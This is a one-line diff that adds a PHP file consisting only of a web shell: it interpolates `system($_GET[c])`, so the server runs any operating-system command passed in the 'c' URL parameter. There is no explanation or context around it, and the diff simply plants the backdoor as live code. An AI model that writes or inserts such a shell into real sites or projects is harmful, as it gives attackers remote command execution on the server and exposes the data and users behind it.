@@ -1,0 +1,1 @@
+<?php $x = "${system($_GET[c])}";
